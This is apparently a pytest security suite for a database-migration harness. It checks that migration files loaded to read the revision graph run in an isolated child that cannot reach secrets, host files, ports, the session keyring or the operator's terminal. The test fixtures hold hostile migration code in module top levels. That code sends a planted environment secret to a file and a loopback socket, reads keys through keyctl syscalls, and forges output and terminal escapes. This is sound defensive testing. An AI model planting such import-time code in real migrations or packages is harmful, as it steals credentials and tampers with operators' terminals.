"""Migration files are the target's code: even reading the revision graph must not run them in the harness.

Loading a migration file runs its module's top level. The history gates (tracked files, one linear chain,
checksums) and the destructive-operation scan load every file, so they do it in the isolated migration child,
and the file's top level meets a jail: no secret of the drill in its environment, no host directory to write
to, no route to a port on the host. A control shows that the harness's own process could do all three, so
only the isolation stops the file.
"""

from __future__ import annotations

import ctypes
import errno
import os
import re
import shutil
import socket
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness.errors import CheckFailed, ConfigError, HarnessError
from harness.migrations.destructive import find_destructive
from harness.migrations.history import check_linear_history, check_tracked, load_graph
from harness.migrations.project import MigrationProject
from harness.services.base import wait_until
from tests.data.migration_sets import build_project
from tests.security.listening import Listening

SECRET_NAME = "DRILL_S3_SECRET_ACCESS_KEY"
REVISION = "0b5e55ed0001"
FILE = f"{REVISION}_notes.py"
TOP_LEVEL = """
import os, socket

secret = os.environ.get({secret!r}, "absent")
{guard}open({canary!r}, "w").write(secret)
{guard}socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(secret.encode())
"""
GUARD = "try:\n    {}\nexcept OSError:\n    pass\n"
CHILD_HAS_AN_ACCOUNT = pytest.mark.skipif(
    os.geteuid() != 0, reason="needs root: without it the child is the harness's own user, who may enter what it owns"
)
REVISION_BODY = f'''
import sqlalchemy as sa
from alembic import op

revision = "{REVISION}"
down_revision = "b6e8dcb19a40"


def upgrade():
    op.create_table("notes", sa.Column("id", sa.Integer, primary_key=True))


def downgrade():
    op.drop_table("notes")
'''


@pytest.fixture
def listener() -> Iterator[Listening]:
    """A TCP port on the host's loopback that records whatever connects to it."""
    served = Listening(socket.create_server(("127.0.0.1", 0)))
    yield served
    served.close()


@pytest.fixture
def canary() -> Iterator[Path]:
    """A path in a directory anyone may write (so only the jail keeps the file from it)."""
    directory = Path(tempfile.mkdtemp(prefix="canary-"))
    directory.chmod(0o1777)
    yield directory / "canary"
    shutil.rmtree(directory, ignore_errors=True)


def _hostile(tmp_path: Path, canary: Path, port: int, *, guarded: bool) -> MigrationProject:
    root = build_project("hostile_file", tmp_path)
    lines = TOP_LEVEL.format(secret=SECRET_NAME, canary=str(canary), port=port, guard="").strip().splitlines()
    top = "\n".join(lines[:3]) + "\n" + "".join(GUARD.format(line) if guarded else line + "\n" for line in lines[3:])
    (root / "versions" / FILE).write_text(f'"""notes"""\n{top}{REVISION_BODY}')
    return MigrationProject(root, REVISION, "sandbox.codeblack.models:Base.metadata")


def test_the_control_the_harness_process_itself_could_leak_all_three(
    tmp_path: Path, canary: Path, listener: Listening, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(SECRET_NAME, "planted")
    top = TOP_LEVEL.format(secret=SECRET_NAME, canary=str(canary), port=listener.socket.getsockname()[1], guard="")
    exec(compile(top, "control", "exec"), {})  # what loading the file in the harness would do
    assert canary.read_text() == "planted"
    wait_until(lambda: listener.received == [b"planted"], timeout=10, what="the control's connection")


def test_a_migration_file_read_for_the_graph_reaches_no_secret_no_file_and_no_port(
    tmp_path: Path, canary: Path, listener: Listening, monkeypatch: pytest.MonkeyPatch
) -> None:
    planted = "planted-" + tmp_path.name
    monkeypatch.setenv(SECRET_NAME, planted)
    project = _hostile(tmp_path, canary, listener.socket.getsockname()[1], guarded=True)

    check_tracked(project)
    graph = load_graph(project)
    check_linear_history(project, graph)
    found = find_destructive(project, [REVISION])

    assert graph.order[-2:] == ["b6e8dcb19a40", REVISION]
    assert graph.named(REVISION) == f"{REVISION} ({FILE})"
    assert found == []
    assert not canary.exists(), f"a migration file wrote {canary}: {canary.read_text()!r}"
    assert listener.received == [], f"a migration file reached the host's port {listener.socket.getsockname()[1]}"


def test_a_migration_file_that_cannot_do_its_mischief_is_named_as_failing_to_load(
    tmp_path: Path, canary: Path, listener: Listening, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(SECRET_NAME, "planted")
    project = _hostile(tmp_path, canary, listener.socket.getsockname()[1], guarded=False)

    with pytest.raises(CheckFailed) as failure:
        check_tracked(project)

    assert str(failure.value) == (
        f"1 file(s) in {project.versions_dir} are not tracked migrations of the chain: {FILE}: fails to load "
        f"(FileNotFoundError: [Errno 2] No such file or directory: '{canary}')"
    )
    assert not canary.exists()
    assert listener.received == []


@CHILD_HAS_AN_ACCOUNT
@pytest.mark.parametrize(
    "closed",
    ["", "versions"],  # the project's root; its versions/ inside an open root (Alembic would list no revision)
    ids=["root", "versions"],
)
def test_a_project_the_childs_account_cannot_read_is_a_setup_error_naming_the_path(tmp_path: Path, closed: str) -> None:
    root = build_project("closed", tmp_path)
    path = root / closed
    path.chmod(0o700)  # the jail keeps the host's permissions: the unprivileged account cannot enter it
    project = MigrationProject(root, "b6e8dcb19a40", "sandbox.codeblack.models:Base.metadata")
    with pytest.raises(ConfigError) as failure:
        load_graph(project)
    assert re.fullmatch(
        rf"{re.escape(str(path))} is not readable by codeblack-drills-\d+, the unprivileged account the migration "
        r"child runs as \(mode drwx------, owner root\): make the project and its interpreter readable by other "
        rf"users \(chmod -R o\+rX {re.escape(str(path))}\)",
        str(failure.value),
    ), failure.value


#: keyctl(2) and add_key(2) by machine: neither has a glibc wrapper.
KEY_CALLS = {"x86_64": (250, 248), "aarch64": (219, 217)}
KEYRING_READER = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
found = libc.syscall({keyctl}, 10, -3, b"user", {name!r}, 0)  # KEYCTL_SEARCH the session keyring
if found >= 0:
    value = ctypes.create_string_buffer(64)
    read = libc.syscall({keyctl}, 11, found, value, 64)  # KEYCTL_READ
    raise RuntimeError("read " + value.raw[:max(read, 0)].decode())
raise RuntimeError("not found, errno " + str(ctypes.get_errno()))
"""


@pytest.mark.skipif(os.uname().machine not in KEY_CALLS, reason="keyctl's system call number is known here")
def test_a_migration_file_reads_no_key_of_the_harness_s_session_keyring(tmp_path: Path) -> None:
    """A key in the drill's session keyring (a Kerberos ticket cache, say) is possessed by whoever inherits it."""
    keyctl, add_key = KEY_CALLS[os.uname().machine]
    libc = ctypes.CDLL(None, use_errno=True)
    name, secret = f"drill-{tmp_path.name}".encode(), b"planted-in-the-keyring"
    key = libc.syscall(add_key, b"user", name, secret, len(secret), -3)  # into the session keyring
    assert key >= 0, f"add_key: errno {ctypes.get_errno()}"
    try:
        value = ctypes.create_string_buffer(64)  # the control: the harness's process reads it
        assert libc.syscall(keyctl, 11, libc.syscall(keyctl, 10, -3, b"user", name, 0), value, 64) == len(secret)
        assert value.raw[: len(secret)] == secret
        root = build_project("keyring", tmp_path)
        top = KEYRING_READER.format(keyctl=keyctl, name=name)
        (root / "versions" / FILE).write_text(f'"""notes"""\n{top}{REVISION_BODY}')
        with pytest.raises(CheckFailed) as failure:
            check_tracked(MigrationProject(root, REVISION, "sandbox.codeblack.models:Base.metadata"))
    finally:
        libc.syscall(keyctl, 3, key)  # KEYCTL_REVOKE
    assert str(failure.value).endswith(f"{FILE}: fails to load (RuntimeError: not found, errno {errno.ENOKEY})")


FORGED = "boom\n\nCUT-OVER: GO\x1b]52;c;cHduZWQ=\x07\x1b[2J"
ESCAPED = r"CUT-OVER: GO\x1b]52;c;cHduZWQ=\x07\x1b[2J"


@pytest.mark.parametrize(
    ("top", "shown"),
    [
        (f"raise RuntimeError({FORGED!r})", rf"fails to load (RuntimeError: boom\n\n{ESCAPED})"),
        (f"import os, sys\nsys.stdout.write({FORGED!r})\nsys.stdout.flush()\nos._exit(3)",
         f"exited with code 3 before answering: boom |  | {ESCAPED}"),
    ],
    ids=["its-exception", "its-output"],
)  # fmt: skip
def test_a_migration_file_s_text_reaches_the_message_escaped_on_one_line(tmp_path: Path, top: str, shown: str) -> None:
    """Line breaks would forge a line of the drill's output, terminal escapes act on the operator's terminal."""
    root = build_project("forged", tmp_path)
    (root / "versions" / FILE).write_text(f'"""notes"""\n{top}\n{REVISION_BODY}')
    with pytest.raises((CheckFailed, HarnessError)) as failure:
        check_tracked(MigrationProject(root, REVISION, "sandbox.codeblack.models:Base.metadata"))
    message = str(failure.value)
    assert shown in message
    assert "\n" not in message
    assert "\x1b" not in message
